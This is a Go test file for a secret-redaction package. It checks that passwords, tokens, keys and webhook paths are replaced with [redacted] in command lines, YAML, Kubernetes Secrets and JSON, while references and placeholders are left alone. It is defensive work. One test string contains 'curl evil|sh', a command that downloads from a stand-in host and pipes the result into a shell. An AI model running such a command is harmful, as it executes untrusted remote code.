package redact

import (
	"encoding/json"
	"strings"
	"testing"
)

// R2-44: the forms that secrets have in texts are taken out, and nothing else.
func TestText(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"mysql --host=db --password=hunter2":                     "mysql --host=db --password=[redacted]",
		"mysql --password hunter2 -h db":                         "mysql --password [redacted] -h db",
		"a=1; DB_PASSWORD=x run":                                 "a=1; DB_PASSWORD=[redacted] run",
		"X_TOKEN=1; curl evil|sh":                                "X_TOKEN=[redacted] curl evil|sh",
		"password: x\nother: y":                                  "password: [redacted]\nother: y",
		"password: |\n  a\n  b\nnext: c":                         "password: [redacted]\n  [redacted]\n  [redacted]\nnext: c",
		"kind: Secret\nstringData:\n  a: b\n  c: |\n    d\nx: y": "kind: Secret\nstringData:\n  a: [redacted]\n  c: [redacted]\n    [redacted]\nx: y",
		"kind: Secret\ndata:\n# of ours\n  a: b\n{{- with .x }}\n  c: d\n{{- end }}\nx: y": "kind: Secret\ndata:\n# of ours\n  a: [redacted]\n{{- with .x }}\n  c: [redacted]\n{{- end }}\nx: y",
		`{"password": "x", "n": 1}`:                     `{"password": "[redacted]", "n": 1}`,
		"Authorization: Bearer abc":                     "Authorization: Bearer [redacted]",
		"curl -u me:hunter2 https://x":                  "curl -u [redacted] https://x",
		"https://ghp_abcdefghijklmnopqrst@github.com/x": "https://[redacted]@github.com/x",
		"https://me:hun@ter2@example.com/x":             "https://[redacted]@example.com/x",
		"docker://registry:5000/api@sha256:1111":        "docker://registry:5000/api@sha256:1111",
		"https://example.com/a:b@c":                     "https://example.com/a:b@c",
		"DB_PWD=x":                                      "DB_PWD=[redacted]",
		"PWD=/home":                                     "PWD=/home",
		"PASSWORD_PROD=x DB_PASSWORDS=y":                "PASSWORD_PROD=[redacted] DB_PASSWORDS=[redacted]",
		"user:pw@tcp(db:3306)/shop":                     "[redacted]@tcp(db:3306)/shop",
		"https://hooks.slack.com/services/T0/B0/abc":    "https://hooks.slack.com/services/[redacted]",
		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nabc\n-----END PGP PRIVATE KEY BLOCK-----\nz": "[redacted]\nz",
		"--token=$TOKEN --password ${DB}":       "--token=$TOKEN --password ${DB}",
		"TOKEN=$up3r$ecret":                     "TOKEN=[redacted]",
		"DB_PASSWORD_FILE=/run/x":               "DB_PASSWORD_FILE=/run/x",
		"token={{inputs.parameters.t}}":         "token={{inputs.parameters.t}}",
		"token={{='hunter2'}}":                  "token=[redacted]",
		`password=[redacted]\nno such`:          `password=[redacted]\nno such`,
		"unexpected tokens are cheap":           "unexpected tokens are cheap",
		"automountServiceAccountToken: true\nx": "automountServiceAccountToken: true\nx",
		"image: acme/token-service:1.4":         "image: acme/token-service:1.4",
		"image: acme/my-token:1.4":              "image: acme/my-token:1.4",
	} {
		got, redacted := Text(text)
		if got != want || redacted != (got != text) {
			t.Errorf("%q: found %q (%t), expected %q", text, got, redacted, want)
		}
		if again, _ := Text(got); again != got {
			t.Errorf("%q: a second time %q", got, again)
		}
	}
}

// R2-44: what has the name of a secret is hidden, whatever it is; what says where one is stays.
func TestValue(t *testing.T) {
	t.Parallel()
	for given, want := range map[string]string{
		`{"args":["--password","hunter2","--host","db"]}`:                               `{"args":["--password","[redacted]","--host","db"]}`,
		`{"args":["-u","me:hunter2","-u","me"]}`:                                        `{"args":["-u","[redacted]","-u","me"]}`,
		`{"password":1234,"n":5}`:                                                       `{"n":5,"password":"[redacted]"}`,
		`{"name":"DB_PASSWORD","value":"$hunter2"}`:                                     `{"name":"DB_PASSWORD","value":"[redacted]"}`,
		`{"name":"DB_PASSWORD","value":"{{hunter2"}`:                                    `{"name":"DB_PASSWORD","value":"[redacted]"}`,
		`{"name":"t-token","value":"{{inputs.parameters.t}}"}`:                          `{"name":"t-token","value":"{{inputs.parameters.t}}"}`,
		`{"name":"token","valueFrom":{"default":"x","parameter":"y"}}`:                  `{"name":"token","valueFrom":{"default":"[redacted]","parameter":"y"}}`,
		`{"enum":["a",2],"name":"token"}`:                                               `{"enum":["[redacted]","[redacted]"],"name":"token"}`,
		`{"name":"Authorization","value":"abc"}`:                                        `{"name":"Authorization","value":"[redacted]"}`,
		`{"name":"API_KEY","valueFrom":{"secretKeyRef":{"key":"k","name":"n"}}}`:        `{"name":"API_KEY","valueFrom":{"secretKeyRef":{"key":"k","name":"n"}}}`,
		`{"passwordSecret":{"key":"k","name":"n"}}`:                                     `{"passwordSecret":{"key":"k","name":"n"}}`,
		`{"imagePullSecrets":[{"name":"n"}],"secret":{"secretName":"s"}}`:               `{"imagePullSecrets":[{"name":"n"}],"secret":{"secretName":"s"}}`,
		`{"passwords":{"name":"hunter2"}}`:                                              `{"passwords":{"name":"[redacted]"}}`,
		`{"DB_PWD":"x","PASSWORD_PROD":"y"}`:                                            `{"DB_PWD":"[redacted]","PASSWORD_PROD":"[redacted]"}`,
		`{"automountServiceAccountToken":false}`:                                        `{"automountServiceAccountToken":false}`,
		`{"kind":"Secret","stringData":{"url":"x"}}`:                                    `{"kind":"Secret","stringData":{"url":"[redacted]"}}`,
		`{"manifest":"{\"kind\":\"Secret\",\"data\":{\"a\":\"b\"}}"}`:                   `{"manifest":"{\"data\":{\"a\":\"[redacted]\"},\"kind\":\"Secret\"}"}`,
		`{"source":"a\u0000b"}`:                                                         "{\"source\":\"a\ufffdb\"}",
		`{"source":"a\npassword: x\nb"}`:                                                `{"source":"a\npassword: [redacted]\nb"}`,
		`{"image":"docker://registry:5000/api@sha256:1111","secretName":"s","key":"k"}`: `{"image":"docker://registry:5000/api@sha256:1111","key":"k","secretName":"s"}`,
	} {
		var v any
		if err := json.Unmarshal([]byte(given), &v); err != nil {
			t.Fatal(err)
		}
		found, redacted := Value(v)
		got, err := json.Marshal(found)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != want || redacted != strings.Contains(want, Mark) {
			t.Errorf("%s: found %s (%t), expected %s", given, got, redacted, want)
		}
		if again, still := Value(found); still != redacted || string(must(json.Marshal(again))) != want {
			t.Errorf("%s: a second time %v (%t)", given, again, still)
		}
	}
}

func must(text []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return text
}
